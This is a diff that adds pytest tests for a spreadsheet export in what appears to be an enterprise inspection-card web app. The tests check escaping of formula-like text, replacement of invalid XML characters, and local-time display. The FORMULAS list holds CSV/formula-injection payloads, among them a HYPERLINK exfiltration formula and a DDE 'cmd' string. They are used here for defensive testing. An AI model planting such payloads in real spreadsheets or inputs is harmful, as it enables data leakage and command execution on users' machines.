@@ -238,3 +238,67 @@ def test_concurrent_inspections_of_one_enterprise_share_one_card(app, auth, make
     [card] = _cards(app.test_client(), headers, enterprise)
     assert card["colour"] == "red"  # six majors within 12 months: R2
     assert len(next(r for r in card["reasons"] if r["rule_id"] == "R2")["finding_ids"]) == 6
+
+
+def _ledger(client, headers) -> bytes:
+    response = client.get("/api/v1/cards/export.xlsx", headers=headers)
+    assert response.status_code == 200, response.get_data(as_text=True)[:500]
+    return response.data
+
+
+def _sheet_xml(data: bytes) -> str:
+    import zipfile
+
+    return zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
+
+
+FORMULAS = ['=HYPERLINK("http://127.0.0.1:9/?x="&A2,"查看")', "=1+1", "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1",
+            "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1,2)", "=cmd|' /C calc'!A0"]
+
+
+@pytest.mark.parametrize("text", FORMULAS, ids=[f"U+{ord(t[0]):04X}" + t[1:4] for t in FORMULAS])
+def test_export_writes_user_text_as_text_whatever_it_starts_with(client, manager, make_enterprise, text):
+    """Issue 12, item 8: an enterprise named like a formula is a text cell (never a live formula), and marked
+    "quote prefix" so Excel keeps it text when the cell is edited."""
+    enterprise = make_enterprise(name=text, zone=text)
+    assert client.post("/api/v1/cards", headers=manager,
+                       json={"enterprise_id": enterprise, "colour": "yellow", "reason": text}).status_code == 201
+    data = _ledger(client, manager)
+    assert "<f>" not in _sheet_xml(data) and "<f " not in _sheet_xml(data)
+    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
+    read = text.replace("\r", "\n")  # XML reads a line end as LF (Excel's own line break in a cell)
+    for column in (2, 5):  # 企业名称, 园区/片区
+        cell = sheet.cell(row=2, column=column)
+        assert (cell.value, cell.data_type, cell.quotePrefix) == (read, "s", True)
+
+
+def test_export_keeps_ordinary_text_without_a_quote_prefix(client, manager, make_enterprise):
+    enterprise = make_enterprise(name="港城化工有限公司", zone="3号泊位")
+    client.post("/api/v1/cards", headers=manager, json={"enterprise_id": enterprise, "colour": "red", "reason": "x"})
+    sheet = openpyxl.load_workbook(io.BytesIO(_ledger(client, manager))).active
+    assert [(c.value, c.quotePrefix) for c in (sheet["B2"], sheet["E2"])] == [
+        ("港城化工有限公司", False), ("3号泊位", False)]
+
+
+@pytest.mark.parametrize("bad", ["\uffff", "\ufffe", "\x01", "\x1b", "\ufdd0", "\U0010ffff", "\x85"])
+def test_export_of_a_row_stored_before_the_input_rules_stays_readable(app, client, manager, make_enterprise, bad):
+    """Issue 12, item 9: a character XML 1.0 cannot hold, already stored, does not break the file (or the
+    request): it is shown as U+FFFD."""
+    enterprise = make_enterprise(name=f"港区{bad}化工", zone=bad)
+    client.post("/api/v1/cards", headers=manager, json={"enterprise_id": enterprise, "colour": "red", "reason": "x"})
+    sheet = openpyxl.load_workbook(io.BytesIO(_ledger(client, manager))).active
+    assert (sheet["B2"].value, sheet["E2"].value) == ("港区\ufffd化工", "\ufffd")
+
+
+def test_export_times_are_the_zones_wall_clock(app, client, manager, make_enterprise):
+    """Issue 12, item 10: a card escalated at 04:15 local on 12-01 shows 2026-12-01 04:15, not UTC."""
+    enterprise = make_enterprise()
+    card_id = client.post("/api/v1/cards", headers=manager,
+                          json={"enterprise_id": enterprise, "colour": "yellow", "reason": "x"}).json["id"]
+    with app.app_context():
+        db.session.get(Card, card_id).escalated_dt = datetime(2026, 11, 30, 20, 15, tzinfo=UTC)
+        db.session.commit()
+    sheet = openpyxl.load_workbook(io.BytesIO(_ledger(client, manager))).active
+    assert sheet.cell(row=1, column=12).value == "升级为红牌"
+    cell = sheet.cell(row=2, column=12)
+    assert (cell.value, cell.number_format) == (datetime(2026, 12, 1, 4, 15), "yyyy-mm-dd hh:mm")
